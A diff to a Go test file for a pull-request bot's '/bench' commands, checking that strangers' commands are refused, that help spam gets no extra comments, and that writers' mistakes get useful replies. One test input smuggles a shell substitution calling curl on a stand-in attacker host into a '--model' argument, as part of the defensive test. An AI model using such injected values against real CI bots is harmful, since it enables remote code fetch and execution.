@@ -75,9 +75,15 @@ func TestAStrangersCommandIsRefused(t *testing.T) {
 	}
 	said := len(r.comments())
 	r.comment("stranger", "/bench retry")
+	assert.Contains(t, r.answer(), "`/bench retry`: it needs write permission")
 	r.comment("stranger", "/bench run --model '$(curl evil.example)'")
-	assert.Len(t, r.comments(), said, "who was told once is not told again")
-	assert.Equal(t, []string{"-1", "-1", "-1", "-1", "-1"}, r.reactions())
+	assert.Contains(t, r.answer(), "no quotation marks", "a slip is told apart")
+	for range 20 {
+		r.comment("stranger", "/bench help")
+	}
+	assert.Contains(t, r.answer(), "| `/bench status` |")
+	assert.Len(t, r.comments(), said, "each has one comment, which is kept up to date")
+	assert.Equal(t, []string{"-1", "-1", "-1", "-1", "confused"}, r.reactions()[:5])
 	assert.Empty(t, r.executor.works())
 }
 
@@ -116,8 +122,8 @@ func TestMistakesAreAnsweredToThoseWhoMayCommand(t *testing.T) {
 		"/bench run --modes ghx,mcp":                "The modes lack `agent_direct`",
 		"/bench explain pr-merge-009":               "did you mean `pr-merge-001`?",
 		"/bench cancel":                             "there is nothing to do",
-		"/bench status":                             "there is nothing to do",
-		"/bench approve " + strings.Repeat("0", 40): "that commit is not the head",
+		"/bench status":                             "There is no run of **bench** on this pull request yet",
+		"/bench approve " + strings.Repeat("0", 40): "on a branch of this repository",
 		"/bench help":                               "/bench approve",
 	} {
 		r.comment("writer", body)
